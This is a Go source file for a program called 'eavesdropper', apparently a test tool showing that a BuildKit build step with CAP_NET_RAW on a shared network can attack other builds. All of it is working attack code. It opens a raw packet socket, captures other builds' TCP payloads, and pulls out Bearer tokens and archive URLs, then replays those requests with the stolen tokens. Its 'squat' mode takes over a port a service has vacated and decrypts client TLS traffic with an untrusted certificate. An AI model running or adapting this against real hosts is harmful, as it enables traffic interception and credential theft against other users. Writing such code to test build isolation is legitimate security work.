// Command eavesdropper is a build step that attacks other builds of its daemon. BuildKit gives steps
// CAP_NET_RAW, and where it has no network for them they share buildkitd's: then all that passes on that
// network passes here.
//
//	eavesdropper listen ADDRESS CAPTURE      what passes from and to an address
//	eavesdropper squat ADDRESS:PORT CAPTURE  takes a port that a service has left, with TLS or without
//
// Both say "ready" when they are, write the TCP payloads that they get to CAPTURE, and end when a datagram
// to the discard port of the address says so. Another datagram makes "listen" ask for everything again that
// it saw being asked for, with the tokens that it saw, and say what it got.
package main

import (
	"bufio"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/sha256"
	"crypto/tls"
	"crypto/x509"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"math/big"
	"net"
	"net/http"
	"net/netip"
	"os"
	"regexp"
	"syscall"
	"time"
)

const (
	// discardPort is where the orders of the test go. Nobody listens there.
	discardPort = 9
	orderReplay = "eavesdropper: replay"
	orderEnd    = "eavesdropper: end"
	// timeout bounds each request that is made again, and the wait for a port.
	timeout = 10 * time.Second
	// wantedBuffer holds what passes while this program is not running.
	wantedBuffer = 64 << 20
	// tlsHandshake is the first byte of a client that speaks TLS.
	tlsHandshake = 22
)

var (
	head   = regexp.MustCompile(`^(GET|POST|PATCH) (/\S*) HTTP/1\.1\r\n(?:.*\r\n)*?Host: (\S+)`)
	bearer = regexp.MustCompile(`Authorization: (Bearer \S+)`)
	object = regexp.MustCompile(`"archiveLocation":"([^"]+)"`)
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "eavesdropper:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	switch {
	case len(args) == 3 && args[0] == "listen":
		return listen(args[1], args[2])
	case len(args) == 3 && args[0] == "squat":
		return squat(args[1], args[2])
	}
	return errors.New("usage: listen ADDRESS CAPTURE | squat ADDRESS:PORT CAPTURE")
}

// A tap gets every IPv4 packet of every interface that comes from or goes to one address.
type tap struct {
	fd      int
	address netip.Addr
	buffer  []byte
}

// newTap listens to an address, and makes the file for what passes.
func newTap(address netip.Addr, capture string) (*tap, *os.File, error) {
	tap, err := openTap(address)
	if err != nil {
		return nil, nil, err
	}
	out, err := os.Create(capture)
	return tap, out, err
}

func openTap(address netip.Addr) (*tap, error) {
	const ethIP = syscall.ETH_P_IP<<8&0xff00 | syscall.ETH_P_IP>>8
	fd, err := syscall.Socket(syscall.AF_PACKET, syscall.SOCK_DGRAM|syscall.SOCK_CLOEXEC, ethIP)
	if err != nil {
		return nil, err
	}
	// The machine's other traffic must not fill the buffer: an IPv4 head has its addresses at 12 and 16.
	filter := []syscall.SockFilter{
		*syscall.LsfStmt(syscall.BPF_LD|syscall.BPF_W|syscall.BPF_ABS, 12),
		*syscall.LsfJump(syscall.BPF_JMP|syscall.BPF_JEQ|syscall.BPF_K, number(address), 2, 0),
		*syscall.LsfStmt(syscall.BPF_LD|syscall.BPF_W|syscall.BPF_ABS, 16),
		*syscall.LsfJump(syscall.BPF_JMP|syscall.BPF_JEQ|syscall.BPF_K, number(address), 0, 1),
		*syscall.LsfStmt(syscall.BPF_RET|syscall.BPF_K, 1<<18),
		*syscall.LsfStmt(syscall.BPF_RET|syscall.BPF_K, 0),
	}
	if err := syscall.AttachLsf(fd, filter); err != nil {
		return nil, err
	}
	// The system gives what it allows.
	_ = syscall.SetsockoptInt(fd, syscall.SOL_SOCKET, syscall.SO_RCVBUF, wantedBuffer)
	_ = syscall.SetsockoptInt(fd, syscall.SOL_SOCKET, syscall.SO_RCVBUFFORCE, wantedBuffer)
	return &tap{fd, address, make([]byte, 1<<17)}, nil
}

func number(address netip.Addr) int {
	four := address.As4()
	return int(binary.BigEndian.Uint32(four[:]))
}

// next returns the payload of the next TCP packet, or an order of the test.
func (t *tap) next() (payload []byte, order string, err error) {
	for {
		n, from, err := syscall.Recvfrom(t.fd, t.buffer, 0)
		if errors.Is(err, syscall.EINTR) {
			continue
		}
		if err != nil {
			return nil, "", err
		}
		// What passes on the loopback is seen twice: once on its way out.
		if link, ok := from.(*syscall.SockaddrLinklayer); ok && link.Pkttype == syscall.PACKET_OUTGOING {
			continue
		}
		packet := t.buffer[:n]
		if n < 20 {
			continue
		}
		source, target := netip.AddrFrom4([4]byte(packet[12:16])), netip.AddrFrom4([4]byte(packet[16:20]))
		inner := packet[min(n, int(packet[0]&15)*4):]
		switch {
		case source != t.address && target != t.address:
		case packet[9] == syscall.IPPROTO_UDP && len(inner) >= 8:
			if binary.BigEndian.Uint16(inner[2:]) == discardPort {
				return nil, string(inner[8:]), nil
			}
		case packet[9] == syscall.IPPROTO_TCP && len(inner) >= 20:
			if payload := inner[min(len(inner), int(inner[12]>>4)*4):]; len(payload) > 0 {
				return payload, "", nil
			}
		}
	}
}

func listen(address, capture string) error {
	parsed, err := netip.ParseAddr(address)
	if err != nil {
		return err
	}
	tap, out, err := newTap(parsed, capture)
	if err != nil {
		return err
	}
	defer out.Close()
	fmt.Println("ready")
	seen := &requests{known: map[string]bool{}}
	replayed := false
	for {
		payload, order, err := tap.next()
		switch {
		case err != nil:
			return err
		case order == orderEnd:
			return nil
		case order == orderReplay && !replayed:
			// Orders are repeated. What it hears from now on are its own requests, which do not count.
			replayed = true
			go replay(seen.all)
			seen = &requests{known: map[string]bool{}}
		case order != "":
		default:
			if _, err := out.Write(payload); err != nil {
				return err
			}
			seen.note(payload)
		}
	}
}

// A request is one that somebody else made.
type request struct{ url, bearer string }

// requests has each URL once.
type requests struct {
	known map[string]bool
	all   []request
}

func (r *requests) note(payload []byte) {
	if found := head.FindSubmatch(payload); found != nil {
		token := ""
		if shown := bearer.FindSubmatch(payload); shown != nil {
			token = string(shown[1])
		}
		r.add(request{"http://" + string(found[3]) + string(found[2]), token})
	}
	for _, found := range object.FindAllSubmatch(payload, -1) {
		r.add(request{string(found[1]), ""})
	}
}

func (r *requests) add(seen request) {
	if !r.known[seen.url] {
		r.known[seen.url] = true
		r.all = append(r.all, seen)
	}
}

func replay(all []request) {
	client := http.Client{Timeout: timeout}
	for _, seen := range all {
		fmt.Println("tried", seen.url, get(&client, seen))
	}
	fmt.Println("tried all")
}

func get(client *http.Client, seen request) string {
	ask, err := http.NewRequest(http.MethodGet, seen.url, nil)
	if err != nil {
		return err.Error()
	}
	if seen.bearer != "" {
		ask.Header.Set("Authorization", seen.bearer)
	}
	answer, err := client.Do(ask)
	if err != nil {
		return err.Error()
	}
	defer answer.Body.Close()
	body, err := io.ReadAll(answer.Body)
	if err != nil {
		return err.Error()
	}
	return fmt.Sprintf("%d %d bytes sha256:%x", answer.StatusCode, len(body), sha256.Sum256(body))
}

// squat answers on a port until it is told to end.
func squat(port, capture string) error {
	parsed, err := netip.ParseAddrPort(port)
	if err != nil {
		return err
	}
	tap, out, err := newTap(parsed.Addr(), capture)
	if err != nil {
		return err
	}
	defer out.Close()
	listener, err := take(port)
	if err != nil {
		return err
	}
	fmt.Println("ready")
	go accept(listener, out)
	for {
		if _, order, err := tap.next(); err != nil || order == orderEnd {
			return err
		}
	}
}

// take binds a port as soon as its owner has gone.
func take(port string) (net.Listener, error) {
	for deadline := time.Now().Add(timeout); ; {
		listener, err := net.Listen("tcp", port)
		if err == nil || time.Now().After(deadline) {
			return listener, err
		}
	}
}

func accept(listener net.Listener, out *os.File) {
	certificate, err := certificate()
	if err != nil {
		fmt.Println("no certificate:", err)
		return
	}
	for {
		connection, err := listener.Accept()
		if err != nil {
			return
		}
		fmt.Println("accepted")
		go func() {
			defer connection.Close()
			_, _ = io.Copy(out, unwrap(connection, certificate))
		}()
	}
}

// unwrap ends TLS, if the client speaks it: it may take any certificate for the service's.
func unwrap(connection net.Conn, certificate tls.Certificate) io.Reader {
	reader := bufio.NewReader(connection)
	if first, err := reader.Peek(1); err != nil || first[0] != tlsHandshake {
		return reader
	}
	config := &tls.Config{Certificates: []tls.Certificate{certificate}}
	return tls.Server(peeked{connection, reader}, config)
}

// peeked is a connection of which something was read.
type peeked struct {
	net.Conn
	reader io.Reader
}

func (p peeked) Read(b []byte) (int, error) { return p.reader.Read(b) }

// certificate is one that nobody trusts.
func certificate() (tls.Certificate, error) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return tls.Certificate{}, err
	}
	template := &x509.Certificate{
		SerialNumber: big.NewInt(1),
		NotAfter:     time.Now().Add(time.Hour),
		IPAddresses:  []net.IP{net.IPv4(127, 0, 0, 1)},
	}
	der, err := x509.CreateCertificate(rand.Reader, template, template, key.Public(), key)
	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}, err
}
